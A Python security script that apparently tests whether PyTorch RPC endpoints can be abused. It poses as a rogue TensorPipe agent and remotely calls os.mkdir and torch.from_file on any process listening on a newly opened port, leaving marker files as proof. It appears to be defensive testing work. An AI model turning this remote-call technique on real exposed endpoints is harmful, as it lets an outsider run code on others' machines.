"""A stranger that speaks torch's RPC: it calls functions of whoever listens, as soon as a port opens.

    python scripts/security/stranger_rpc.py FOLDER NAME STARTS

It has an agent of its own ready, whose table of addresses is one that it fills in itself. What it calls
leaves a file in FOLDER if it is done: `pickled` by a pickled call, `operator` by one of torch's operators.
"""

import os
import sys
import threading
from pathlib import Path

import torch
import torch.distributed as dist
import torch.distributed.autograd
import torch.distributed.rpc as api
from stranger_meeting import Port, leave_root, visit

ANSWER_S = 0.5


class Agent:
    """An agent that believes what it is told: that `worker0` is where the stranger wants to call."""

    def __init__(self) -> None:
        self._store = dist.HashStore()
        for key, value in (("names/0", "worker0"), ("names/1", "worker1")):
            self._store.set(key, value)
        options = api.TensorPipeRpcBackendOptions(
            rpc_timeout=ANSWER_S, _transports=["uv"], _channels=["basic"]
        )
        self._agent = api.TensorPipeAgent(self._store, "worker1", 1, 2, options, {}, [])
        self._starting = threading.Thread(target=lambda: api.api._init_rpc_states(self._agent))
        self._starting.start()
        self._store.get("addrs/worker1")  # it listens by now

    def call(self, port: Port, marks: Path) -> bool:
        """Call functions there; whether anything of it was done."""
        self._store.set("addrs/worker0", f"uv://{port[0]}:{port[1]}")
        self._starting.join()
        left = Path(f"{marks}-pickled"), Path(f"{marks}-operator")
        calls = [
            api.rpc_async("worker0", os.mkdir, (str(left[0]),)),
            api.rpc_async("worker0", torch.from_file, (str(left[1]), True, 1)),
        ]
        answered = [self._is_answered(call) for call in calls]
        return any(answered) or any(path.exists() for path in left)

    @staticmethod
    def _is_answered(call: torch.futures.Future) -> bool:
        try:
            call.wait()
        except Exception:
            return False
        return True

    def end(self) -> None:
        """End the agent."""
        if self._starting.is_alive():
            self._store.set("addrs/worker0", "uv://127.0.0.1:1")
            self._starting.join()
        api.shutdown(graceful=False)


def main() -> None:
    """Watch and call, as often as the job starts."""
    folder, name, starts = Path(sys.argv[1]), sys.argv[2], int(sys.argv[3])
    leave_root(name)
    os.environ["TP_SOCKET_IFNAME"] = "lo"
    torch.distributed.autograd._init(1)
    visit(
        folder,
        name,
        "rpc",
        starts,
        Agent,
        lambda agent, port, attack: agent.call(port, folder / f"{name}-{attack}"),
        Agent.end,
    )


if __name__ == "__main__":
    main()
